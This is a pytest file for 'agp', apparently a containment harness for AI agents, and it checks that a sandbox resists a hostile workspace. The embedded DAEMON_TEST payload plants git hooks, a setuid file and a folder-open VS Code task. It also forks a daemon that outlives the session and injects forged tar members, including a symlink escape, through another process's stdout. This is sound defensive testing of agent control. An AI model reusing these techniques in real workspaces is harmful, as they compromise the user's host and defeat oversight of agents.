"""A hostile box, end to end: the repository's own test file, run by an allowed command under
policies/default.toml with no approver, attacks what agp does after the harness exits.

The planted test forks a daemon that outlives the harness. It learns the host run directory from
/proc/self/mountinfo, then waits for agp to run anything in the box after the harness has gone
(the old read-out: a ``tar`` exec whose stdout agp extracted on the host), stops that process,
writes tar members of its own into the process's stdout through /proc/<pid>/fd/1, and lets it
go on. The same test file plants a git hook and a setuid file in the workspace.

What must hold: nothing is read out of a live box (no exec runs after the harness, so the daemon
finds no process to hijack, and every process is gone before agp reads anything), the bundle is
written and verifies, the git hook never reaches the host, and the setuid bit is stripped and
reported.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

pytestmark = [pytest.mark.docker]

ROOT = Path(__file__).resolve().parents[3]
AGP = [sys.executable, "-m", "agp.cli"]
AGENT = 10001

DAEMON_TEST = r'''
import os, signal, sys, tarfile, io, time, unittest

MARK = "INJECTED_BY_THE_BOX"
WS = os.getcwd()


def _members(host_run_dir):
    out = b""
    for name, data in ((MARK, ("the box wrote this; host run dir " + host_run_dir + "\n").encode()),
                       ("transcript.jsonl", b'{"forged": true}\n')):
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        ti.mode = 0o644
        out += ti.tobuf(format=tarfile.GNU_FORMAT) + data + b"\0" * (-len(data) % 512)
    ti = tarfile.TarInfo("escape")
    ti.type = tarfile.SYMTYPE
    ti.linkname = host_run_dir  # a link member pointing outside the destination
    out += ti.tobuf(format=tarfile.GNU_FORMAT)
    return out


def _host_run_dir():
    for line in open("/proc/self/mountinfo"):
        f = line.split()
        if f[4] == "/run/agp":
            return os.path.dirname(f[3])  # the bind's root on the host: <run dir>/sock
    return "?"


def _daemon():
    host_run_dir = _host_run_dir()
    with open(os.path.join(WS, "daemon.log"), "a") as log:
        log.write(f"started; host run dir {host_run_dir}\n")
    seen = {int(p) for p in os.listdir("/proc") if p.isdigit()}
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        for p in os.listdir("/proc"):
            if not p.isdigit() or int(p) in seen:
                continue
            pid = int(p)
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                continue
            if cmd.startswith(b"runc") or not cmd:
                continue  # the engine's exec helper, about to become the process agp asked for
            seen.add(pid)
            if b"agp-exec" not in cmd and not cmd.startswith(b"tar\0"):
                continue
            # a process agp started in the box after the harness: hijack its stdout
            try:
                os.kill(pid, signal.SIGSTOP)
                fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
                os.write(fd, _members(host_run_dir))
                os.close(fd)
                with open(os.path.join(WS, "daemon.log"), "a") as log:
                    log.write(f"hijacked {pid}\n")
            except OSError as exc:
                with open(os.path.join(WS, "daemon.log"), "a") as log:
                    log.write(f"failed on {pid}: {exc}\n")
            finally:
                try:
                    os.kill(pid, signal.SIGCONT)
                except OSError:
                    pass
        time.sleep(0.0005)


class T(unittest.TestCase):
    def test_plant(self):
        ws = os.getcwd()
        try:  # a git hook the host would run on the user's next commit
            with open(os.path.join(ws, ".git", "hooks", "pre-commit"), "w") as f:
                f.write("#!/bin/sh\ntouch /tmp/HOOK_RAN\n")
            os.chmod(os.path.join(ws, ".git", "hooks", "pre-commit"), 0o755)
        except OSError:
            pass
        try:
            with open(os.path.join(ws, ".git", "config"), "a") as f:
                f.write("[core]\n\thooksPath = /tmp\n")
        except OSError:
            pass
        with open(os.path.join(ws, "suid-tool"), "w") as f:
            f.write("#!/bin/sh\nid\n")
        os.chmod(os.path.join(ws, "suid-tool"), 0o4755)
        os.makedirs(os.path.join(ws, ".vscode"), exist_ok=True)  # did not exist: creation is reported
        with open(os.path.join(ws, ".vscode", "tasks.json"), "w") as f:
            f.write('{"tasks": [{"runOptions": {"runOn": "folderOpen"}, "command": "id"}]}\n')
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                devnull = os.open("/dev/null", os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                try:
                    _daemon()
                finally:
                    os._exit(0)
            os._exit(0)
        os.wait()
'''


def _workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "tests").mkdir(parents=True)
    (ws / "README.md").write_text("# project\n")
    (ws / "tests" / "__init__.py").write_text("")
    (ws / "tests" / "test_plant.py").write_text(DAEMON_TEST)
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    for p in [ws, *ws.rglob("*")]:
        os.lchown(p, AGENT, AGENT)
    return ws


def _entries(run_dir: Path) -> list[dict]:
    return [json.loads(ln) for ln in (run_dir / "journal.jsonl").read_text().splitlines() if ln.strip()]


def test_a_daemon_left_in_the_box_cannot_write_on_the_host_through_the_read_out(tmp_path):
    ws = _workspace(tmp_path)
    hook_before = sorted(p.name for p in (ws / ".git" / "hooks").iterdir())
    config_before = (ws / ".git" / "config").read_bytes()
    script = [{"tool": "Bash", "input": {"command": "python3 -m unittest discover -s tests"}},
              {"tool": "Bash", "input": {"command": "ls -la"}}]
    (tmp_path / "script.json").write_text(json.dumps(script))
    runs = tmp_path / "runs"
    r = subprocess.run([*AGP, "run", "--intendant", "reference", "--script", tmp_path / "script.json",
                        "--workspace", ws, "--workspace-mode", "mount", "--policy", ROOT / "policies" / "default.toml", "--approver", "none",
                        "--out", runs, "--json"], capture_output=True, text=True, cwd=ROOT, timeout=600)
    assert r.stdout, r.stderr[-3000:]
    doc = json.loads(r.stdout)
    run_dir = Path(doc["run_dir"])
    entries = _entries(run_dir)
    decisions = [e["body"] for e in entries if e["kind"] == "gate.decision"]
    assert [d["decision"] for d in decisions] == ["allow", "allow"], [d["reason"] for d in decisions]

    # nothing the box wrote into a read-out reached the host, anywhere
    planted = [p for p in tmp_path.rglob("*") if "INJECTED_BY_THE_BOX" in p.name or p.name == "escape"]
    assert planted == [], planted
    for p in (run_dir / "transcript").rglob("*"):
        if p.is_file():
            assert b"forged" not in p.read_bytes(), p
    # the bundle is written and verifies, and the transcript agp kept is the harness's own
    assert doc["bundle_ok"], doc
    v = subprocess.run([*AGP, "verify", doc["bundle_dir"], "--key", run_dir / "keys" / "agp.pub", "--json"],
                       capture_output=True, text=True, cwd=ROOT)
    assert v.returncode == 0, v.stdout + v.stderr
    lines = (run_dir / "transcript" / "transcript.jsonl").read_text().splitlines()
    assert len(lines) == 2 and all(json.loads(ln)["decision"] == "allow" for ln in lines)

    # the workspace return path: the hook and the config edit never reached the host ...
    assert sorted(p.name for p in (ws / ".git" / "hooks").iterdir()) == hook_before
    assert (ws / ".git" / "config").read_bytes() == config_before
    # ... the setuid bit is stripped and reported, the new .vscode/ is reported
    assert (ws / "suid-tool").stat().st_mode & 0o7000 == 0
    anomalies = [e["body"] for e in entries if e["kind"] == "run.anomaly"]
    text = json.dumps(anomalies)
    assert "suid-tool" in text and "setuid" in text, anomalies
    assert ".vscode" in text, anomalies
    # no process agp started in the box after the harness was there to hijack
    log = (ws / "daemon.log").read_text() if (ws / "daemon.log").exists() else ""
    assert "hijacked" not in log, log
    stop = [e for e in entries if e["kind"] == "sandbox.stop"]
    assert stop and stop[0]["body"]["confirmed"] is True
    import docker

    assert docker.from_env().containers.list(all=True, filters={"label": f"agp.run={doc['run_id']}"}) == []


FILLER_TEST = r'''
import os, time, unittest


class T(unittest.TestCase):
    def test_fill(self):
        with open("filler.bin", "wb") as f:
            for _ in range(64):
                f.write(os.urandom(1024 * 1024))
                f.flush()
                time.sleep(0.05)
        time.sleep(120)
'''


def test_a_box_writing_past_the_limit_is_stopped_with_a_clear_reason_and_a_bundle(tmp_path):
    ws = tmp_path / "ws"
    (ws / "tests").mkdir(parents=True)
    (ws / "tests" / "__init__.py").write_text("")
    (ws / "tests" / "test_fill.py").write_text(FILLER_TEST)
    for p in [ws, *ws.rglob("*")]:
        os.lchown(p, AGENT, AGENT)
    script = [{"tool": "Bash", "input": {"command": "python3 -m unittest discover -s tests"}}]
    (tmp_path / "script.json").write_text(json.dumps(script))
    r = subprocess.run([*AGP, "run", "--intendant", "reference", "--script", tmp_path / "script.json",
                        "--workspace", ws, "--approver", "none", "--max-write-mb", "8", "--timeout", "300",
                        "--out", tmp_path / "runs", "--json"], capture_output=True, text=True, cwd=ROOT, timeout=400)
    assert r.returncode == 1, r.stdout + r.stderr[-2000:]
    doc = json.loads(r.stdout)
    assert "write limit of 8 MB" in doc["reason"] and "--max-write-mb" in doc["reason"], doc["reason"]
    assert (ws / "filler.bin").stat().st_size < 40 * 1024 * 1024  # stopped well before it finished
    assert Path(doc["bundle_dir"]).is_dir()
    run_dir = Path(doc["run_dir"])
    v = subprocess.run([*AGP, "verify", run_dir / "journal.jsonl", "--key", run_dir / "keys" / "agp.pub"],
                       capture_output=True, text=True, cwd=ROOT)
    assert v.returncode == 0, v.stdout
    run = json.loads((run_dir / "run.json").read_text())
    assert run["write_watchdog"]["tripped"] and run["write_watchdog"]["limit_bytes"] == 8_000_000


def test_the_harness_log_is_capped_and_the_excess_reported(tmp_path, monkeypatch):
    import io

    from rich.console import Console

    from agp import _wiring
    from agp._live import LiveView
    from agp.run import RunOptions, run_governed

    monkeypatch.setattr(_wiring, "HARNESS_LOG_CAP", 64)  # the reference agent writes more than this to stdout
    ws = tmp_path / "ws"
    ws.mkdir()
    os.chown(ws, AGENT, AGENT)
    (tmp_path / "script.json").write_text(json.dumps([{"tool": "Bash", "input": {"command": "ls -la"}}] * 3))
    opts = RunOptions(intendant="reference", task="log cap", workspace=ws, approver="none",
                      script=tmp_path / "script.json", out=tmp_path / "runs", timeout=300, skip_doctor=True)
    res = run_governed(opts, LiveView(Console(file=io.StringIO(), width=200)))
    log = res.run_dir / "logs" / "harness.log"
    assert log.stat().st_size == 64, res.reason
    capped = [e["body"] for e in _entries(res.run_dir) if e["kind"] == "run.anomaly"
              and e["body"]["what"] == "harness log capped"]
    assert capped and capped[0]["kept_bytes"] == 64 and capped[0]["dropped_bytes"] > 0
    assert res.bundle_dir is not None and res.bundle_dir.is_dir()
